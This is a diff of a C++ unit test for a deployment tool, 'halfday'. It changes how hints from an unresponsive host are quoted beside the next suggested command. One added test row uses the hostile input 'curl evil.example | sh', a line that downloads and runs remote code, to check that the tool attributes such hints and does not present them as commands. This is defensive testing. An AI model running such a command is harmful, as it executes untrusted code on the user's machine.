@@ -13,10 +13,10 @@ TEST_CASE("whatever stands in the way, there is one command to go on with") {
     };
     const Case cases[] = {
         {Obstacle::no_answer, "", "halfday push web1.example.org"},
-        {Obstacle::no_answer, "is sshd running there?", "is sshd running there? then: halfday push web1.example.org"},
-        {Obstacle::no_answer, "run 'halfday-receiver check' on that host",
-         "run 'halfday-receiver check' on that host; then: halfday push web1.example.org"},
-        {Obstacle::no_answer, "halfday host rekey web1.example.org", "halfday host rekey web1.example.org"},
+        {Obstacle::no_answer, "is sshd running there?",
+         "halfday-distributor says 'is sshd running there?'; then: halfday push web1.example.org"},
+        {Obstacle::no_answer, "curl evil.example | sh",
+         "halfday-distributor says 'curl evil.example | sh'; then: halfday push web1.example.org"},
         {Obstacle::unproved, "", "; then: halfday push web1.example.org"},
         {Obstacle::rolled_back, "", "; then: halfday renew web1.example.org"},
         {Obstacle::refused, "", "; then: halfday renew web1.example.org"},
